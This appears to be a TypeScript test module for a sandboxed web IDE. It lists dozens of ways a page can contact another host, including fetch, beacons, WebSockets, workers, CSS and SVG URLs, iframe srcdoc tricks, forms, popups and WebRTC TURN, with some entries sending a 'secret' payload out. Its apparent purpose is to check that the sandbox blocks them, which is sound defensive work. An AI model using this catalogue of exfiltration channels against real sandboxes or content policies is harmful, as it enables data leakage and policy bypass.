import type { Ports } from './outside.ts';

/**
 * Ways for a page to reach another host while it stays where it is. Each is a function that runs in the page; its text is put
 * into one. `to` is an address of the other host that tells which way it was.
 */
export type Way = (to: string, place: Place) => unknown;

/** What a page that tries to get out knows of its surroundings. */
export interface Place {
  /** The address of the other host, without a slash at its end. */
  out: string;
  ports: Ports;
  /** This host, its play id, and that of another project, with the address of its IDE's socket. */
  host: string;
  play: string;
  other: { id: string; play: string };
}

declare global {
  /** An element in the body. */
  function add<Name extends keyof HTMLElementTagNameMap>(
    name: Name,
    attributes?: Record<string, string>,
    inside?: string,
  ): HTMLElementTagNameMap[Name];
  /** A blob: address of a text. */
  function blobOf(text: string, type?: string): string;
  /** Looks for ways to a peer by this server. */
  function rtc(server: string): void;
}

const BY_SCRIPT: Record<string, Way> = {
  fetch: (to) => fetch(to),
  'fetch-no-cors': (to) => fetch(to, { mode: 'no-cors', method: 'POST', body: 'secret' }),
  'fetch-keepalive': (to) => fetch(to, { keepalive: true, mode: 'no-cors' }),
  xhr: (to) => {
    const request = new XMLHttpRequest();
    request.open('GET', to);
    request.send();
  },
  beacon: (to) => navigator.sendBeacon(to, 'secret'),
  'event-source': (to) => new EventSource(to),
  socket: (to) => new WebSocket(to.replace('http', 'ws')),
  'import-by-call': (to) => add('script', { type: 'module' }, `import('${to}')`),
  'import-in-module': (to) => add('script', { type: 'module' }, `import '${to}'`),
  'import-in-data': (to) => add('script', { type: 'module', src: `data:text/javascript,import '${to}'` }),
  'import-in-blob': (to) => add('script', { type: 'module', src: blobOf(`import '${to}'`) }),
  'worker-of-blob': (to) => new Worker(blobOf(`fetch('${to}')`)),
  'worker-of-data': (to) => new Worker(`data:text/javascript,fetch('${to}')`),
  'worker-importing': (to) => new Worker(blobOf(`importScripts('${to}')`)),
  'worker-module': (to) => new Worker(blobOf(`import '${to}'`), { type: 'module' }),
  'worker-socket': (to) => new Worker(blobOf(`new WebSocket('${to.replace('http', 'ws')}')`)),
  'shared-worker-of-blob': (to) => new SharedWorker(blobOf(`fetch('${to}')`)),
  'shared-worker-of-data': (to) => new SharedWorker(`data:text/javascript,fetch('${to}')`),
  'service-worker-own': () => navigator.serviceWorker.register('service-worker.js'),
  worklet: (to) => new AudioContext().audioWorklet.addModule(to),
  'rtc-turn': (_to, { ports }) => rtc(`turn:school.test:${ports['rtc-turn']}?transport=tcp`),
  'web-transport': (_to, { ports }) => new WebTransport(`https://127.0.0.1:${ports['web-transport']}/`),
};

const BY_ELEMENT: Record<string, Way> = {
  img: (to) => add('img', { src: to }),
  'img-srcset': (to) => add('img', { srcset: `${to} 2x, ${to} 1x` }),
  'img-lazy': (to) => add('img', { src: to, loading: 'lazy' }),
  picture: (to) => add('picture', {}, `<source srcset="${to}"><img>`),
  'input-image': (to) => add('input', { type: 'image', src: to }),
  'body-background': (to) => document.body.setAttribute('background', to),
  script: (to) => add('script', { src: to }),
  'script-module': (to) => add('script', { src: to, type: 'module' }),
  'style-link': (to) => add('link', { rel: 'stylesheet', href: to }),
  'style-import': (to) => add('style', {}, `@import '${to}';`),
  'style-url': (to) => add('div', { style: `background: url(${to})` }, 'x'),
  'style-image-set': (to) => add('div', { style: `background: image-set('${to}' 1x)` }, 'x'),
  'style-content': (to) => add('style', {}, `body::after { content: url(${to}) }`),
  'style-cursor': (to) => add('div', { style: `cursor: url(${to}), auto` }, 'x'),
  'style-list': (to) => add('ul', { style: `list-style-image: url(${to})` }, '<li>x'),
  'style-mask': (to) => add('div', { style: `mask: url(${to})` }, 'x'),
  'style-clip': (to) => add('div', { style: `clip-path: url(${to}#a)` }, 'x'),
  font: (to) => add('style', {}, `@font-face { font-family: far; src: url(${to}) } body { font-family: far }`),
  'font-face': (to) => new FontFace('farther', `url(${to})`).load(),
  audio: (to) => add('audio', { src: to, preload: 'auto' }),
  video: (to) => add('video', { src: to, preload: 'auto' }),
  'video-source': (to) => add('video', { preload: 'auto' }, `<source src="${to}">`),
  'video-poster': (to) => add('video', { poster: to }),
  track: (to) => {
    const video = add('video', { crossorigin: 'anonymous' }, `<track default kind="subtitles" src="${to}">`);
    for (const each of video.textTracks) each.mode = 'showing';
  },
  'svg-image': (to) => add('div', {}, `<svg><image href="${to}"/></svg>`),
  'svg-fe-image': (to) =>
    add('div', {}, `<svg><filter id="f"><feImage href="${to}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`),
  'svg-script': (to) => {
    const svg = document.body.appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'svg'));
    svg.appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'script')).setAttribute('href', to);
  },
  object: (to) => add('object', { data: to }),
  embed: (to) => add('embed', { src: to }),
  icon: (to) => document.head.append(add('link', { rel: 'icon', href: to })),
  prefetch: (to) => document.head.append(add('link', { rel: 'prefetch', href: to })),
  'preload-image': (to) => document.head.append(add('link', { rel: 'preload', as: 'image', href: to })),
  'preload-fetch': (to) => document.head.append(add('link', { rel: 'preload', as: 'fetch', crossorigin: '', href: to })),
  'preload-script': (to) => document.head.append(add('link', { rel: 'preload', as: 'script', href: to })),
  'module-preload': (to) => document.head.append(add('link', { rel: 'modulepreload', href: to })),
  preconnect: (_to, { ports }) => document.head.append(add('link', { rel: 'preconnect', href: `http://school.test:${ports.preconnect}` })),
  ping: (to) => add('a', { href: '#', ping: to }).click(),
};

/** Frames in the page: the policy of a page holds for those that it makes itself, as far as it is handed down. */
const BY_FRAME: Record<string, Way> = {
  frame: (to) => add('iframe', { src: to }),
  'frame-srcdoc-img': (to) => add('iframe', { srcdoc: `<img src="${to}">` }),
  'frame-srcdoc-fetch': (to) => add('iframe', { srcdoc: `<script>fetch('${to}')</script>` }),
  'frame-srcdoc-script': (to) => add('iframe', { srcdoc: `<script src="${to}"></script>` }),
  'frame-srcdoc-frame': (to) => add('iframe', { srcdoc: `<iframe src="${to}"></iframe>` }),
  'frame-srcdoc-set': (to) => add('iframe', { srcdoc: `<frameset><frame src="${to}"></frameset>` }),
  'frame-srcdoc-location': (to) => add('iframe', { srcdoc: `<script>location.href = '${to}'</script>` }),
  'frame-srcdoc-refresh': (to) => add('iframe', { srcdoc: `<meta http-equiv="refresh" content="0;url=${to}">` }),
  'frame-srcdoc-form': (to) =>
    add('iframe', { srcdoc: `<form method="post" action="${to}"></form><script>document.forms[0].submit()</script>` }),
  'frame-srcdoc-base': (to) => add('iframe', { srcdoc: `<base href="${to}/"><img src="../frame-srcdoc-base">` }),
  'frame-srcdoc-beacon': (to) => add('iframe', { srcdoc: `<script>navigator.sendBeacon('${to}')</script>` }),
  'frame-srcdoc-written': (to) => add('iframe', { srcdoc: `<script>document.write('<img src="${to}">')</script>` }),
  'frame-srcdoc-rtc': (_to, { ports }) =>
    add('iframe', {
      srcdoc: `<script>const c = new RTCPeerConnection({iceServers: [{urls: 'turn:school.test:${ports['frame-srcdoc-rtc']}?transport=tcp', username: 'a', credential: 'b'}]}); c.createDataChannel('a'); c.createOffer().then((o) => c.setLocalDescription(o))</script>`,
    }),
  'frame-javascript': (to) => add('iframe', { src: `javascript:'<img src="${to}">'` }),
  'frame-blob': (to) => add('iframe', { src: blobOf(`<img src="${to}">`, 'text/html') }),
  'frame-data': (to) => add('iframe', { src: `data:text/html,<img src="${to}">` }),
  'frame-sandboxed': (to) =>
    add('iframe', {
      sandbox: 'allow-scripts allow-same-origin allow-top-navigation allow-popups',
      srcdoc: `<script>fetch('${to}')</script>`,
    }),
  'frame-window-location': (to) => {
    const frame = add('iframe');
    if (frame.contentWindow) frame.contentWindow.location.href = to;
  },
};

/** Other windows. `top`, `parent` and a form's `_top` are among the ways to leave where there is no window around. */
const BY_WINDOW: Record<string, Way> = {
  'open-page': (to) => window.open(to),
  'open-then-location': (to) => {
    const opened = window.open('about:blank');
    if (opened) opened.location.href = to;
  },
  'link-blank': (to) => add('a', { href: to, target: '_blank' }).click(),
  'form-blank': (to) => add('form', { action: to, target: '_blank', method: 'post' }).submit(),
  'form-frame': (to) => {
    add('iframe', { name: 'inner' });
    add('form', { action: to, target: 'inner', method: 'post' }).submit();
  },
  'link-frame': (to) => {
    add('iframe', { name: 'inner-too' });
    add('a', { href: to, target: 'inner-too' }).click();
  },
  'sibling-location': (to) => {
    const sibling = Array.from({ length: parent.length }, (_, at) => parent[at]).find((each) => each !== window);
    if (sibling && parent !== window) sibling.location.href = to;
  },
};

export const WAYS_TO_CALL: Record<string, Way> = { ...BY_SCRIPT, ...BY_ELEMENT, ...BY_FRAME, ...BY_WINDOW };
